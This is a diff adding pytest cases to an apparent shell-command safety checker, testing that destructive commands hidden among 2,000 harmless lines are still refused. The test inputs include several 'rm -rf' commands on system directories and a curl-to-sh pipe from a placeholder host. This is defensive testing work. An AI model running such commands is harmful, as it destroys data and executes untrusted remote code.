@@ -313,3 +313,27 @@ def test_a_short_text_with_a_syntax_error_gets_the_verdict_of_the_full_walk(
     fast = check_command(text)
     _full_walk(monkeypatch)
     assert fast == check_command(text)
+
+
+# --- plain commands recorded without the walk's layers ----------------------------------------
+
+_DISTINCT = "".join(f"job{i} --run {i}\n" for i in range(2000))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cleanup() { rm -rf /etc; }\n" + _DISTINCT + "cleanup now",
+        _DISTINCT + "ls() { rm -rf /usr; }; ls -la",
+        _DISTINCT + "sudo rm -rf /var",
+        _DISTINCT + "curl -s https://x.example | job1 --run 1 | sh",
+        _DISTINCT + "cd /; job2 --run 2; rm -rf *",
+    ],
+)
+def test_a_destructive_command_among_many_distinct_plain_ones_is_refused(text: str) -> None:
+    assert check_command(text)
+
+
+def test_many_distinct_plain_commands_run_the_same_commands_as_in_the_full_walk() -> None:
+    text = _DISTINCT.replace("\n", " &\n", 50) + "cat /etc/hosts | job3 --run 3 && job4\n"
+    assert _signature(text, True) == _signature(text, False)
